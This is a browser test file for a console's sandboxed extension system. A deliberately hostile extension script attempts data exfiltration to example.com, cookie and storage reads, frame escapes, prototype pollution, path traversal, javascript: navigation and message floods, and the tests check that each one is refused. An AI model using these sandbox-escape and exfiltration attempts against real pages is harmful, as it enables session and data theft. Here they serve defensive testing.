import { cp, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { describeWithBrowser } from '../support/browser.ts'
import { type Console, expectAccessible, expectFits, startConsole } from '../support/console.ts'
import { root } from '../support/processes.ts'

/** A directory with the sample and these extensions of the console: files by their path. */
async function extensions(files: Record<string, string>): Promise<string> {
  const directory = await mkdtemp(join(tmpdir(), 'daybook-console-extensions-'))
  await cp(join(root, 'extensions/examples/svc-console-notes'), join(directory, 'svc-console-notes'), {
    recursive: true,
  })
  for (const [name, content] of Object.entries(files)) {
    await mkdir(dirname(join(directory, name)), { recursive: true })
    await writeFile(join(directory, name), content)
  }
  return directory
}

const page = (script: string) =>
  `<!doctype html><html lang="en"><head><title>It</title><script type="module" src="${script}"></script></head><body><main id="out"></main></body></html>`

const manifest = (members: object) =>
  `export default ${JSON.stringify({ title: 'Hostile', page: { file: 'page.html' }, ...members })}`

/** Speaks with the console by itself. */
const speaking = `
const port = await new Promise((resolve) => {
  addEventListener('message', ({ data, ports }) => {
    globalThis.context = data.context
    if (ports[0]) resolve(ports[0])
  })
  parent.postMessage({ type: 'daybook.hello', version: 1 }, '*')
})
const waiting = new Map()
const unnumbered = []
port.onmessage = ({ data }) => {
  const said = JSON.parse(data)
  if (said.told === 'ping') port.postMessage('{"pong":true}')
  else if (said.id === null) unnumbered.push(said.error.code)
  else waiting.get(said.id)?.(said)
}
let last = 0
const ask = (call, args, id = ++last) => new Promise((resolve) => {
  waiting.set(id, ({ ok, result, error }) => resolve(ok ? JSON.stringify(result) : error.code + ' ' + error.status))
  port.postMessage('{"id":' + id + ',"call":' + JSON.stringify(call) + ',"args":' + args + '}')
})
globalThis.ask = ask
globalThis.flood = (count) => { for (let i = 0; i < count; i += 1) port.postMessage('{"id":' + (1000 + i) + ',"call":"items.list","args":{"collection":"note","query":{}}}') }
`

/** Tries whatever comes to mind, and keeps what came of it. */
const hostile = `
const results = {}
globalThis.results = results
const attempt = async (name, work) => {
  const late = new Promise((_resolve, reject) => setTimeout(() => reject(Object.assign(new Error(), { name: 'nothing' })), 1500))
  try { results[name] = String(await Promise.race([work(), late])) } catch (error) { results[name] = 'refused: ' + error.name }
}
await attempt('fetch', () => fetch('/items/note', { credentials: 'include' }).then((one) => one.status))
await attempt('fetch elsewhere', () => fetch('https://example.com/?stolen'))
await attempt('image', () => new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: () => reject(new Error()), src: '/assets/x?stolen' })))
await attempt('module', () => import('/client.js'))
await attempt('other extension', () => import('../notes/page.js'))
await attempt('socket', () => new Promise((resolve, reject) => Object.assign(new WebSocket('ws://example.com'), { onopen: resolve, onerror: () => reject(new Error()) })))
await attempt('worker', () => new Promise((resolve, reject) => Object.assign(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), { onmessage: resolve, onerror: () => reject(new Error()) })))
await attempt('eval', () => (0, eval)('1'))
await attempt('beacon', () => { navigator.sendBeacon('/auth/logout'); return 'sent' })
await attempt('parent', () => parent.document.title)
await attempt('opened', () => window.open('/console/data') === null ? 'null' : 'opened')
await attempt('top', () => { top.location.href = 'about:blank' })
await attempt('cookie', () => document.cookie)
await attempt('storage', () => localStorage.length)
await attempt('frame', () => { const one = document.createElement('iframe'); one.src = '/console/data'; document.body.append(one); return one.contentDocument === null ? 'closed' : 'blank' })
await attempt('declared', () => ask('items.list', '{"collection":"note","query":{"fields":["title"]}}'))
await attempt('undeclared', () => ask('items.list', '{"collection":"secret","query":{}}'))
await attempt('related', () => ask('items.list', '{"collection":"note","query":{"fields":["title","secret.title"]}}'))
await attempt('related by filter', () => ask('items.list', '{"collection":"note","query":{"filter":{"secret":{"title":{"eq":"hidden"}}}}}'))
await attempt('users', () => ask('items.list', '{"collection":"svc_User","query":{}}'))
await attempt('report', () => ask('reports.run', '{"collection":"secret","query":{"aggregate":{"n":{"function":"count","field":"*"}}}}'))
await attempt('write', () => ask('items.create', '{"collection":"note","item":{"title":"written"}}'))
await attempt('path', () => ask('items.get', '{"collection":"..","id":"auth"}'))
await attempt('path in id', () => ask('items.get', '{"collection":"note","id":"../../auth/me"}'))
await attempt('navigate', async () => [await ask('navigate', '{"to":"//example.com"}'), await ask('navigate', '{"to":"javascript:alert(1)"}'), await ask('navigate', '{"to":"/\\\\\\\\example.com"}')])
await attempt('value', () => ask('value.set', '{"value":1}'))
await attempt('prototype', () => ask('__proto__', '{}'))
for (const call of ['constructor', 'toString', 'items.', 'items.drop']) await attempt(call, () => ask(call, '{}'))
await attempt('member', () => ask('items.list', '{"collection":"note","query":{},"__proto__":{"isAdmin":true}}'))
await attempt('header', () => ask('items.list', '{"collection":"note","query":{},"headers":{}}'))
for (const text of ['', 'null', '[]', '{"id":-1}', '{"id":"__proto__"}', '{"pong":1}', '{"__proto__":null}', 'x'.repeat(500001), '['.repeat(200000)]) port.postMessage(text)
port.postMessage({ id: 1, call: 'items.list' })
port.postMessage(new Map([[1, { toString() { throw 1 } }.x]]))
await ask('toast', '{"title":"Hello"}')
results.unnumbered = unnumbered.join()
results.done = 'yes'
`

describeWithBrowser('extensions of the console', () => {
  let it_: Console
  let directory: string
  const frame = (shown: Page, title: string) => shown.frameLocator(`iframe[title="${title}"]`)

  beforeAll(async () => {
    directory = await extensions({
      'svc-console-hostile/index.js': manifest({
        editors: { any: { file: 'editor.html' } },
        collections: { read: ['note'] },
      }),
      'svc-console-hostile/files/page.html': page('page.js'),
      'svc-console-hostile/files/page.js': `${speaking}${hostile}`,
      'svc-console-hostile/files/editor.html': page('editor.js'),
      'svc-console-hostile/files/editor.js': speaking,
      'svc-console-stuck/index.js': manifest({ title: 'Stuck' }),
      'svc-console-stuck/files/page.html': page('page.js'),
      'svc-console-stuck/files/page.js': 'for (;;) {}',
    })
    it_ = await startConsole({ EXTENSIONS_DIR: directory })
    const { api } = it_
    const text = { type: 'String', allowNull: true }
    await api.admin('POST', '/schemas', { collectionName: 'secret', schema: { fields: { title: text } } })
    const secret = { relType: 'BelongsTo', target: 'secret' }
    const fields = {
      ...{ title: text, secret },
      colour: { ...text, editor: 'notes/colour' },
      body: { type: 'Text', allowNull: true, editor: 'notes/markdown' },
      rating: { type: 'JSON', allowNull: true, editor: 'hostile/any' },
      other: { ...text, editor: 'none/such' },
    }
    await api.admin('POST', '/schemas', { collectionName: 'note', schema: { fields } })
    const { body } = await api.admin('POST', '/items/secret', { title: 'hidden' })
    await api.admin('POST', '/items/note', { title: 'seen', secret_Id: body.data.id })
  })
  afterAll(() => rm(directory, { recursive: true }))

  it('has a page in the navigation that lists and edits rows, in the look of the console', async () => {
    const { api } = it_
    const { page: shown, wrong } = await it_.visit('/data')
    await shown.getByRole('navigation', { name: 'Pages' }).getByRole('link', { name: 'Notes' }).click()
    await shown.waitForURL(/extensions\/notes/)
    const notes = frame(shown, 'Notes')
    await notes.getByLabel('New note').fill('First <b>')
    await notes.getByRole('button', { name: 'Add' }).click()
    await notes.getByLabel('Title of First').fill('Second')
    await notes.getByLabel('Title of First').press('Enter')
    await notes.getByLabel('Title of Second').waitFor()
    const { body } = await api.admin('GET', '/items/note?fields=title&sort=-title')
    expect(body.data).toEqual([{ title: 'seen' }, { title: 'Second' }])
    await shown.getByText('Notes: saved').waitFor()
    await expectFits(shown, 'extension')
    const ink = () => notes.locator('body').evaluate('getComputedStyle(document.body).color')
    await shown.emulateMedia({ colorScheme: 'light' })
    await expect.poll(ink).toBe('rgb(23, 33, 29)')
    await shown.emulateMedia({ colorScheme: 'dark' })
    await expect.poll(ink).toBe('rgb(233, 238, 236)')
    await expectAccessible(shown)
    await shown.emulateMedia({ colorScheme: 'light' })
    await expect.poll(ink).toBe('rgb(23, 33, 29)')

    // Its own paths are in the address, and by the keyboard one gets out again.
    await notes.getByLabel('New note').press('Control+k')
    await shown.getByRole('dialog').getByRole('combobox').fill('Notes')
    await shown.keyboard.press('Escape')
    await notes.getByRole('button', { name: 'Open Second' }).click()
    await shown.waitForURL(/data\/note\//)
    await shown.goBack()
    await notes.getByLabel('New note').waitFor()
    expect(wrong).toEqual([])
    // Last of all: what axe itself tries in a frame, its policy refuses and complains of.
    for (const colorScheme of ['dark', 'light'] as const) {
      await shown.emulateMedia({ colorScheme })
      await expect.poll(ink).toBe(colorScheme === 'dark' ? 'rgb(233, 238, 236)' : 'rgb(23, 33, 29)')
      await expectAccessible(shown.frames().at(-1)!)
    }
  })
  it('has editors for fields in the form of a record, whose values are saved with it', async () => {
    const { api } = it_
    const made = await api.admin('POST', '/items/note', { title: 'Edited', body: 'Old' })
    const path = `/items/note/${made.body.data.id}`
    const { page: shown, wrong } = await it_.visit(`/data/note/${made.body.data.id}`)
    const [colour, markdown] = [frame(shown, 'colour'), frame(shown, 'body')]
    await colour.getByLabel('Colour as text').fill('#0b6e59')
    await markdown.getByRole('textbox').fill('# Title\n\nSome **strong** <img src=x onerror=alert(1)> words')
    await markdown.getByRole('heading', { name: 'Title' }).waitFor()
    await markdown.getByText('<img src=x onerror=alert(1)>').last().waitFor()
    expect(await colour.getByLabel('Choose a colour').inputValue()).toBe('#0b6e59')
    await shown.getByText('2 changes').waitFor()
    await shown.getByText('Its editor none/such is not installed here, or not for you.').waitFor()
    await expectFits(shown, 'extension-editors')
    await shown.getByRole('button', { name: 'Save', exact: true }).click()
    await expect
      .poll(async () => (await api.admin('GET', path)).body.data)
      .toMatchObject({ colour: '#0b6e59', body: '# Title\n\nSome **strong** <img src=x onerror=alert(1)> words' })

    // A value that is taken back in the form is taken back in the editor, too; an empty one is null.
    await colour.getByLabel('Colour as text').fill('#ffffff')
    await shown.getByRole('button', { name: 'Discard' }).click()
    await expect.poll(() => colour.getByLabel('Colour as text').inputValue()).toBe('#0b6e59')
    await colour.getByLabel('Colour as text').fill('')
    await shown.getByRole('button', { name: 'Save', exact: true }).click()
    await expect.poll(async () => (await api.admin('GET', path)).body.data.colour).toBeNull()
    await shown.getByText('1 change', { exact: true }).waitFor({ state: 'detached' })

    // In the grid it is a text as any other.
    await shown.goto(`${it_.address}/console/data/note`)
    const cell = shown.getByRole('gridcell').filter({ hasText: '# Title' })
    await cell.dblclick()
    await shown.getByRole('textbox', { name: 'body' }).waitFor()
    await shown.keyboard.press('Escape')
    expect(wrong).toEqual([])
    await shown.goBack()
    await markdown.getByRole('heading', { name: 'Title' }).waitFor()
    await colour.getByLabel('Colour as text').waitFor()
    for (const one of shown.frames().filter((each) => /notes\/(colour|markdown)/.test(each.url())))
      await expectAccessible(one)
  })

  it('tells editors no more of a record than their manifest opens, and leaves to the server what a field may hold', async () => {
    const { api } = it_
    const [{ id }] = (await api.admin('GET', '/items/note?filter={"title":"seen"}')).body.data
    const { page: shown } = await it_.visit(`/data/note/${id}`)
    const inside = frame(shown, 'rating').locator('body')
    await expect.poll(() => inside.evaluate('globalThis.context?.kind')).toBe('editor')
    const context = await inside.evaluate('globalThis.context')
    expect(context).toMatchObject({ extension: 'hostile', collection: 'note', value: null, field: { name: 'rating' } })
    expect((context as { record: object }).record).toEqual(
      expect.objectContaining({ title: 'seen', secret_Id: expect.anything() }),
    )
    expect(JSON.stringify(context)).not.toContain('hidden')
    const said = (text: string) => inside.evaluate(`ask(${text})`)
    expect(await said(`'navigate', '{"to":"/data"}'`)).toBe('WRONG_PLACE 0')
    expect(await said(`'value.set', '{"value":{"stars":[1,{"__proto__":{"x":1}}]}}'`)).toBe('null')
    await shown.getByRole('button', { name: 'Save', exact: true }).click()
    await shown.getByRole('alert').filter({ hasText: /./ }).first().waitFor()
    expect(await said(`'value.set', '{"value":{"stars":[1,2.50,"3"]}}'`)).toBe('null')
    await shown.getByRole('button', { name: 'Save', exact: true }).click()
    await expect
      .poll(async () => (await api.admin('GET', `/items/note/${id}`)).body.data.rating)
      .toEqual({ stars: [1, 2.5, '3'] })
    await inside.evaluate('void setTimeout(() => flood(10000), 100)')
    await shown.getByRole('alert').getByText('asked for too much at once').waitFor()
    await shown.getByRole('button', { name: 'Load it again' }).waitFor()
  })

  it('gives a hostile page nothing but what its manifest names, and stays usable when it floods', async () => {
    const { api } = it_
    const { page: shown } = await it_.visit('/extensions/hostile/deep/link?a=1')
    const requests: string[] = []
    // A request that the policy refuses is begun, and never answered.
    shown.on('response', (response) => requests.push(response.url().replace(it_.address, '')))
    const inside = frame(shown, 'Hostile').locator('body')
    await expect.poll(() => inside.evaluate('globalThis.results?.done')).toBe('yes')
    const results = (await inside.evaluate('globalThis.results')) as Record<string, string>
    const { declared, unnumbered, ...others } = results
    expect(JSON.parse(declared!).data).toContainEqual({ title: 'seen' })
    expect(unnumbered).toBe(Array.from({ length: 11 }, () => 'BAD_MESSAGE').join())
    expect(others).toEqual({
      ...{ fetch: 'refused: TypeError', 'fetch elsewhere': 'refused: TypeError', image: 'refused: Error' },
      ...{ module: 'refused: TypeError', 'other extension': 'refused: TypeError', socket: 'refused: Error' },
      ...{ worker: 'refused: Error', eval: 'refused: EvalError', beacon: 'sent', parent: 'refused: SecurityError' },
      ...{ opened: 'null', top: 'refused: SecurityError', cookie: 'refused: SecurityError' },
      ...{
        storage: 'refused: SecurityError',

        frame: 'closed',
        undeclared: 'FORBIDDEN 403',
        related: 'FORBIDDEN 403',
      },
      ...{ 'related by filter': 'FORBIDDEN 403', users: 'FORBIDDEN 403', report: 'FORBIDDEN 403' },
      ...{ write: 'FORBIDDEN 403', path: 'BAD_MESSAGE 0', 'path in id': 'BAD_QUERY 400', value: 'WRONG_PLACE 0' },
      ...{ navigate: 'BAD_MESSAGE 0,BAD_MESSAGE 0,BAD_MESSAGE 0', prototype: 'BAD_MESSAGE 0' },
      ...{ constructor: 'BAD_MESSAGE 0', toString: 'BAD_MESSAGE 0', 'items.': 'BAD_MESSAGE 0' },
      ...{ 'items.drop': 'BAD_MESSAGE 0', member: 'BAD_MESSAGE 0', header: 'BAD_MESSAGE 0', done: 'yes' },
    })
    expect(requests.filter((url) => /stolen|client\.js|logout|extension-files\/.*\/notes/.test(url))).toEqual([])
    expect((await api.admin('GET', '/items/note?filter={"title":"written"}&count=true')).body.totalCount).toBe(0)

    await inside.evaluate('void setTimeout(() => flood(10000), 100)')
    await shown.getByRole('alert').getByText('asked for too much at once').waitFor()
    expect(await shown.locator('iframe').count()).toBe(0)
    await expectAccessible(shown)
    await shown.getByRole('button', { name: 'Load it again' }).click()
    await expect.poll(() => inside.evaluate('globalThis.results?.done')).toBe('yes')
    await inside.evaluate('location.href = "https://example.com/?stolen"')
    await shown.getByRole('alert').getByText('has left its page').waitFor()
    await shown.getByRole('navigation', { name: 'Pages' }).getByRole('link', { name: 'Data', exact: true }).click()
    await shown.getByRole('heading', { name: 'Data' }).waitFor()
    expect(requests.filter((url) => url.includes('stolen'))).toEqual([])
  })

  it('stops one that never answers while the console goes on', async () => {
    const { page: shown } = await it_.visit('/extensions/stuck')
    await shown.locator('iframe[title="Stuck"]').waitFor({ state: 'attached' })
    await shown.keyboard.press('Control+k')
    await shown.getByRole('dialog').getByRole('combobox').fill('notes')
    await shown.getByText('does not answer').waitFor()
  })
})
